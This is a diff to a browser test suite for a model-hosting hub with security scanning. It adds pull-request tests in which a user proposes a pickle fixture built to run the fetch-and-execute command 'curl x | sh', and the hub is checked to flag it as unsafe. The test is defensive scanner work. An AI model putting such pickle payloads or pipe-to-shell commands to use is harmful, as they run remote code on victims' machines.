@@ -2,7 +2,7 @@ import { mkdir, mkdtemp, rm } from "node:fs/promises";
 import { createRequire } from "node:module";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
-import { createRepo, uploadFiles } from "@huggingface/hub";
+import { commit, createRepo, uploadFiles } from "@huggingface/hub";
 import { createUser, type RunningHub, startHub } from "@modelgate/hub";
 import type { AxeResults } from "axe-core";
 import type { Browser, Page } from "playwright-core";
@@ -122,6 +122,29 @@ describe("the hub's web pages in Chromium", () => {
     });
     await waitForScans(hubUrl, "alice/extras", alice);
     await waitForScans(hubUrl, "alice/mixed", alice);
+    // bob, who cannot write to alice/mixed, proposes a pickle that runs a command, and a new config.
+    await commit({
+      repo: "alice/mixed",
+      accessToken: bob,
+      hubUrl,
+      useXet: false,
+      isPullRequest: true,
+      title: "Add a faster loader",
+      description: "Loads twice as fast.",
+      operations: [
+        { operation: "addOrUpdate", path: "loader.pkl", content: new Blob([dangerousPickle("curl x | sh")]) },
+        {
+          operation: "addOrUpdate",
+          path: "config.json",
+          content: new Blob(['{"model_type":"bert","fast":true}']),
+        },
+      ],
+    });
+    await fetch(`${hubUrl}/api/models/alice/mixed/tag/main`, {
+      method: "POST",
+      headers: { authorization: `Bearer ${alice}`, "content-type": "application/json" },
+      body: JSON.stringify({ tag: "v1" }),
+    });
     await waitForScans(hubUrl, "acme/secret-model", alice);
     await mkdir(SHOTS, { recursive: true });
     browser = await launchChromium();
@@ -142,6 +165,17 @@ describe("the hub's web pages in Chromium", () => {
     });
     await page.goto(`${hub.url}${path}`);
     return page;
+  }
+
+  /** Opens `path`, waits for `ready`, and expects no axe-core WCAG 2 A/AA violation. */
+  async function expectAccessible(path: string, ready: string): Promise<void> {
+    // axe is injected as a script, which the pages' CSP rightly refuses: bypass it for the audit.
+    const page = await open(path, undefined, { bypassCSP: true });
+    await page.locator(ready).first().waitFor();
+    const audit = await axeAudit(page);
+    expect(audit.violations, path).toEqual([]);
+    expect(audit.passes, path).toBeGreaterThan(10);
+    await page.context().close();
   }
 
   it("home lists public repositories with a security badge, and hides private ones when signed out", async () => {
@@ -186,6 +220,8 @@ describe("the hub's web pages in Chromium", () => {
     expect(await badgeOf("safe.pkl").innerText()).toContain("Safe");
     expect(await badgeOf("config.json").innerText()).toMatch(/Safe|Not scanned/);
     expect(await page.getByRole("rowheader", { name: "extra (folder)" }).count()).toBe(1);
+    // A folder shows the worst status of the files inside it (extra/odd.pkl is suspicious).
+    expect(await badgeOf("extra (folder)").innerText()).toContain("Suspicious");
     await page.screenshot({ path: join(SHOTS, "repo.png"), fullPage: true });
 
     // The folder page, reached by keyboard-accessible link.
@@ -237,10 +273,13 @@ describe("the hub's web pages in Chromium", () => {
     await page.context().close();
   });
 
-  it("a leaked token: Secret found, shown redacted only, and no unsafe banner", async () => {
+  it("a leaked token: Secret found, shown redacted only, counted by the banner as a secret", async () => {
     const page = await open("/alice/extras");
     const row = page.getByRole("row").filter({ has: page.getByRole("rowheader", { name: "config.json" }) });
     await poll(() => row.locator(".badge").innerText()).toContain("Secret found");
+    expect(await page.getByRole("alert").locator("h2").innerText()).toContain(
+      "This model has 1 file leaking a secret",
+    );
     expect(await page.getByText(/scanned as unsafe/).count()).toBe(0);
     await row.getByRole("link").click();
     await page.waitForURL("**/alice/extras/blob/main/config.json");
@@ -278,6 +317,48 @@ describe("the hub's web pages in Chromium", () => {
       .toEqual(["Add checkpoints", "initial commit"]);
     await page.screenshot({ path: join(SHOTS, "history.png"), fullPage: true });
     await page.context().close();
+  });
+
+  it("pull requests: the list shows each open one with the worst status of its files; its page lists them", async () => {
+    const page = await open("/alice/mixed");
+    await poll(() => page.locator('optgroup[label="Tags"] option').allInnerTexts()).toEqual(["v1"]);
+    await page.getByRole("link", { name: "Pull requests" }).click();
+    await page.waitForURL("**/alice/mixed/discussions");
+    const pull = page.locator(".pull", { hasText: "#1 Add a faster loader" });
+    await poll(() => pull.locator(".badge").innerText()).toContain("Unsafe");
+    expect(await pull.innerText()).toContain("2 files changed, 1 with issues");
+    expect(await pull.innerText()).toContain("opened by bob");
+    await page.screenshot({ path: join(SHOTS, "pulls.png"), fullPage: true });
+
+    await pull.getByRole("link", { name: "#1 Add a faster loader" }).click();
+    await page.waitForURL("**/alice/mixed/discussions/1");
+    const banner = page.getByRole("alert").filter({ hasText: "This pull request adds" });
+    await poll(() => banner.innerText()).toContain(
+      "This pull request adds 1 file scanned as unsafe or infected",
+    );
+    const row = (name: string) =>
+      page.getByRole("row").filter({ has: page.getByRole("rowheader", { name }) });
+    expect(await row("loader.pkl").locator(".badge").innerText()).toContain("Unsafe");
+    expect(await row("loader.pkl").innerText()).toContain("added");
+    expect(await row("config.json").innerText()).toContain("modified");
+    expect(await row("loader.pkl").getByRole("link").getAttribute("href")).toBe(
+      "/alice/mixed/blob/refs%2Fpr%2F1/loader.pkl",
+    );
+    const conversation = page.locator(".events");
+    expect(await conversation.innerText()).toContain("Loads twice as fast.");
+    expect(await conversation.innerText()).toContain("Add a faster loader");
+    await page.screenshot({ path: join(SHOTS, "pull-request.png"), fullPage: true });
+
+    // The file's security detail at the pull request's ref, as for any revision.
+    await row("loader.pkl").getByRole("link").click();
+    await page.waitForURL("**/alice/mixed/blob/refs%2Fpr%2F1/loader.pkl");
+    await poll(() => page.locator(".imports").innerText()).toContain("system");
+    await page.context().close();
+  });
+
+  it("pull request pages pass axe-core's WCAG 2 A and AA checks", async () => {
+    await expectAccessible("/alice/mixed/discussions", ".pull .badge");
+    await expectAccessible("/alice/mixed/discussions/1", ".files .badge");
   });
 
   it("a private repository is shown only to those allowed", async () => {
@@ -355,15 +436,7 @@ describe("the hub's web pages in Chromium", () => {
       ["/sign-in", "#token-input"],
       ["/nobody/nothing", ".notice-error"],
     ];
-    for (const [path, ready] of pages) {
-      // axe is injected as a script, which the pages' CSP rightly refuses: bypass it for the audit.
-      const page = await open(path, undefined, { bypassCSP: true });
-      await page.locator(ready).first().waitFor();
-      const audit = await axeAudit(page);
-      expect(audit.violations, path).toEqual([]);
-      expect(audit.passes, path).toBeGreaterThan(10);
-      await page.context().close();
-    }
+    for (const [path, ready] of pages) await expectAccessible(path, ready);
   });
 
   it("works from the keyboard: skip link, download confirmation opened and dismissed", async () => {
